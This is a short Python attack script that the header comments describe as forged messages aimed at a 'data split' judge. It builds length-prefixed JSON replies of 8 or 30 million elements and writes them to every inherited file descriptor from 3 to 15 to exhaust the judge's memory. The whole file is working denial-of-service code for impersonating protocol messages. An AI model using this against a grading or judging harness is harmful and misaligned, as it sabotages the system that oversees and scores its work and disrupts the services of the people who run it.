# class: forged messages
# against: data split
# Replies of 8 and 30 million elements, to exhaust the judge's memory.
import os
def f(kind, n):
    b = b'{"q":0,"v":1,"a":[' + b'0,' * (8000000 if n % 2 else 30000000) + b'0]}'
    b = len(b).to_bytes(4, 'little') + b
    for fd in range(3, 16):
        try:
            n, m = 0, memoryview(b)
            while n < len(b): n += os.write(fd, m[n:])
        except OSError: pass
    return 0
